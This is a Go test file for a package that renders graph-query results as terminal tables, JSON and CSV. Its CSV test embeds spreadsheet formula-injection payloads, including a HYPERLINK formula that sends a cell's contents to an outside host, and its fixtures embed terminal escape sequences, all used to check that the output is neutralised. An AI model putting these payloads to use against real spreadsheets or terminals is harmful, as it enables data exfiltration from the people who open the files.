package output_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"entente/graph/neo"
	"entente/graph/output"
	"entente/schema/edtf"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"
)

var update = flag.Bool("update", false, "write the golden files anew")

var (
	niger  = neo.Node{ElementID: "4:x:1", Labels: []string{"Entity", "Country"}, Properties: map[string]any{"id": "niger", "name": "Niger"}}
	france = neo.Node{ElementID: "4:x:2", Labels: []string{"Entity", "Country"}, Properties: map[string]any{"id": "france", "name": "France"}}
	ally   = neo.Relationship{ElementID: "5:x:1", StartID: "4:x:2", EndID: "4:x:1", Type: "ALLY_OF", Properties: map[string]any{"valid_from": edtf.Day{Year: 2021, Month: 4, Day: 2}, "confidence": 0.9}}
)

// everyKind has every kind of value that an answer can have.
func everyKind() output.Table {
	zone := time.FixedZone("", 2*60*60)
	return output.Table{Columns: []string{"kind", "value"}, Rows: [][]any{
		{"nothing", nil},
		{"text", "Niamey"},
		{"empty text", ""},
		{"truth", true},
		{"integer", int64(1500)},
		{"negative integer", int64(-5)},
		{"int", 7},
		{"number", 0.9},
		{"whole number", 40e6},
		{"tiny number", 1e-9},
		{"huge number", 1e21},
		{"negative number", -0.5},
		{"no number", math.NaN()},
		{"infinity", math.Inf(-1)},
		{"day", edtf.Day{Year: 2023, Month: 7, Day: 26}},
		{"day BC", edtf.Day{Year: -43, Month: 3, Day: 15}},
		{"time", time.Date(2023, 7, 26, 14, 5, 6, 789_000_000, zone)},
		{"list", []any{"a", int64(1), nil, edtf.Day{Year: 2023, Month: 7, Day: 26}, []any{"b", "c"}}},
		{"list of text", []string{"Entity", "Country"}},
		{"empty list", []any{}},
		{"map", map[string]any{"b": int64(2), "a": []any{"x", edtf.Day{Year: 2023, Month: 7, Day: 26}}}},
		{"node", niger},
		{"node without a name", neo.Node{Labels: []string{"Load"}, Properties: map[string]any{}}},
		{"document", neo.Node{Labels: []string{"Document"}, Properties: map[string]any{"id": "d", "title": "A title"}}},
		{"relationship", ally},
		{"path", neo.Path{Nodes: []neo.Node{france, niger}, Relationships: []neo.Relationship{ally}}},
		{"bytes", []byte("entente")},
		{"several lines", "one\ntwo"},
		{"right to left", "محمد بازوم"},
		{"wide", "尼日尔 🇳🇪"},
		{"commas and quotes", `a, "b"`},
		{"long", "The French government is in talks with the military leaders of Niger about the withdrawal of its troops"},
		{"one long word", strings.Repeat("x", 60)},
		{"markup", "<b> & </b>"},
		{"control characters", "a\x1b[31mred\x07\u009b\x7f\tb\r\u202egnp"},
		{"not UTF-8", "a\xffb"},
	}}
}

func TestEveryKindOfValue(t *testing.T) {
	for _, format := range output.Formats {
		t.Run(string(format), func(t *testing.T) {
			golden(t, "kinds."+string(format), everyKind(), format)
		})
	}
}

func TestNumbersStandAtTheRight(t *testing.T) {
	golden(t, "numbers.table", output.Table{Columns: []string{"name", "troops", "share", "mixed"}, Rows: [][]any{
		{"France", int64(1500), 0.5, int64(1)}, {"United States", int64(11), 12.25, "x"},
	}}, output.Text)
}

func TestNoRows(t *testing.T) {
	for _, format := range output.Formats {
		golden(t, "empty."+string(format), output.Table{Columns: []string{"name", "value"}}, format)
	}
}

func golden(t *testing.T, name string, table output.Table, format output.Format) {
	t.Helper()
	var b strings.Builder
	if err := table.Write(&b, format); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), b.String()); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

// Whatever a terminal or its owner asks for, there are no colours to turn off.
func TestThereAreNoColours(t *testing.T) {
	var plain []string
	for _, set := range []map[string]string{{}, {"NO_COLOR": "1"}, {"FORCE_COLOR": "1", "CLICOLOR_FORCE": "1", "TERM": "xterm-256color"}} {
		for name, value := range set {
			t.Setenv(name, value)
		}
		for _, format := range output.Formats {
			var b strings.Builder
			if err := everyKind().Write(&b, format); err != nil {
				t.Fatal(err)
			}
			if strings.ContainsRune(b.String(), '\x1b') && format == output.Text {
				t.Errorf("with %v the table steers the terminal", set)
			}
			plain = append(plain, b.String())
		}
	}
	for i, n := 0, len(output.Formats); i < len(plain); i++ {
		if plain[i] != plain[i%n] {
			t.Errorf("%s depends on the environment", output.Formats[i%n])
		}
	}
}

// JSON has the columns in their order, and it is JSON.
func TestJSONKeepsTheOrderOfTheColumns(t *testing.T) {
	var b strings.Builder
	table := output.Table{Columns: []string{"z", "a", "m"}, Rows: [][]any{{int64(1), "<&>", nil}, {int64(2), "", 0.5}}}
	if err := table.Write(&b, output.JSON); err != nil {
		t.Fatal(err)
	}
	want := "[\n  {\"z\": 1, \"a\": \"<&>\", \"m\": null},\n  {\"z\": 2, \"a\": \"\", \"m\": 0.5}\n]\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

// What is written as JSON and as CSV is read again as it was.
func TestTextsSurvive(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		column, text := rapid.String().Draw(t, "column"), rapid.String().Draw(t, "text")
		table := output.Table{Columns: []string{column, "second"}, Rows: [][]any{{text, "x"}}}
		var b strings.Builder
		if err := table.Write(&b, output.JSON); err != nil {
			t.Fatal(err)
		}
		var rows []map[string]string
		if err := json.Unmarshal([]byte(b.String()), &rows); err != nil {
			t.Fatalf("%s: %v", b.String(), err)
		}
		if column != "second" && rows[0][column] != text {
			t.Fatalf("%q in JSON is %q", text, rows[0][column])
		}
		b.Reset()
		if err := table.Write(&b, output.CSV); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", b.String(), err)
		}
		for i, given := range []string{column, text} {
			got := records[i][0]
			if want := strings.ReplaceAll(output.Harmless(given), "\r\n", "\n"); got != want { // as encoding/csv reads it
				t.Fatalf("%q in CSV is %q", given, got)
			}
			if len(got) > 1 && strings.ContainsAny(got[:1], "=+-@\t\r\n") {
				t.Fatalf("%q is a formula", got)
			}
		}
	})
}

func TestFormulasAreHarmlessInCSV(t *testing.T) {
	const formula = `=HYPERLINK("https://example.org?"&A1)`
	for name, value := range map[string]any{
		"text": formula, "plus": "+1", "minus": "-1+1", "at": "@SUM(A1)", "tab": "\t=1", "return": "\r=1", "feed": "\n=1", "full width": "＝1",
		"node": neo.Node{Properties: map[string]any{"name": formula}}, "path": neo.Path{Nodes: []neo.Node{{Properties: map[string]any{"name": formula}}}},
		"list": []any{formula}, "texts": []string{formula}, "map": map[string]any{"=a": 1}, "relationship": neo.Relationship{Type: "=X"},
	} {
		var b strings.Builder
		if err := (output.Table{Columns: []string{"=c"}, Rows: [][]any{{value}}}).Write(&b, output.CSV); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, record := range records {
			if !strings.HasPrefix(record[0], "'") {
				t.Errorf("%s: the cell %q is a formula", name, record[0])
			}
		}
	}
	for _, text := range []string{"", "a=b", "1-2", "'=1", "é=", "#", "-"} {
		if got := output.Harmless(text); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
}

func TestParseFormat(t *testing.T) {
	for _, f := range output.Formats {
		if got, err := output.ParseFormat(string(f)); got != f || err != nil {
			t.Errorf("%s is %s, %v", f, got, err)
		}
	}
	for _, name := range []string{"", "JSON", "xml"} {
		_, err := output.ParseFormat(name)
		if err == nil || !strings.HasSuffix(err.Error(), "it is table, json or csv") {
			t.Errorf("%q: %v", name, err)
		}
	}
}

func TestWriteJSON(t *testing.T) {
	var b strings.Builder
	if err := output.WriteJSON(&b, map[string]any{"b": "<&>", "a": []int{1}}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff("{\n  \"a\": [\n    1\n  ],\n  \"b\": \"<&>\"\n}\n", b.String()); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

// full is a disk that is full.
type full struct{}

var errFull = errors.New("no space left on device")

func (full) Write([]byte) (int, error) { return 0, errFull }

func TestAWriteThatFailsIsAnError(t *testing.T) {
	for _, format := range output.Formats {
		if err := everyKind().Write(full{}, format); !errors.Is(err, errFull) {
			t.Errorf("%s: %v", format, err)
		}
	}
}

func TestATableFitsItsTerminal(t *testing.T) {
	table := output.Table{Columns: []string{"a", "long"}, Rows: [][]any{{"x", "one two three four five six seven eight"}}, Width: 30}
	var b bytes.Buffer
	if err := table.Write(&b, output.Text); err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(b.String()) {
		if n := utf8.RuneCountInString(strings.TrimRight(line, "\n")); n != 30 && n != 29 {
			t.Errorf("a line has %d characters: %s", n, line)
		}
	}
	for _, word := range []string{"one", "five", "eight"} {
		if !strings.Contains(b.String(), word) {
			t.Errorf("%s is lost:\n%s", word, b.String())
		}
	}
}

func TestALongWordBreaksWhereItReads(t *testing.T) {
	table := output.Table{
		Columns: []string{"relation", "valid", "source", "troops"},
		Rows: [][]any{
			{"WITHDRAWS_FROM", "2023-01-25/2023-02", "french-foreign-ministry", int64(400)},
			{"DEPLOYED_TO", "2023-08-10/..", "ecowas", nil},
		},
		Width: 50,
	}
	var b bytes.Buffer
	if err := table.Write(&b, output.Text); err != nil {
		t.Fatal(err)
	}
	want := `
┌────────────┬─────────────┬────────────┬────────┐
│ relation   │ valid       │ source     │ troops │
├────────────┼─────────────┼────────────┼────────┤
│ WITHDRAWS_ │ 2023-01-25/ │ french-    │    400 │
│ FROM       │ 2023-02     │ foreign-   │        │
│            │             │ ministry   │        │
│ DEPLOYED_  │ 2023-08-10/ │ ecowas     │        │
│ TO         │ ..          │            │        │
└────────────┴─────────────┴────────────┴────────┘
`
	if diff := cmp.Diff(strings.TrimPrefix(want, "\n"), b.String()); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

func TestATableThatCannotFitIsWrittenRowByRow(t *testing.T) {
	table := output.Table{
		Columns: []string{"subject", "relation", "valid"},
		Rows:    [][]any{{"France and others", "ALLY_OF", nil}, {"Niger", "FIGHTS\nAIDS", "2023-07-26/.."}},
		Width:   20,
	}
	var b bytes.Buffer
	if err := table.Write(&b, output.Text); err != nil {
		t.Fatal(err)
	}
	want := `
─ 1 ─
subject   France and others
relation  ALLY_OF
─ 2 ─
subject   Niger
relation  FIGHTS
          AIDS
valid     2023-07-26/..
`
	if diff := cmp.Diff(strings.TrimPrefix(want, "\n"), b.String()); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}
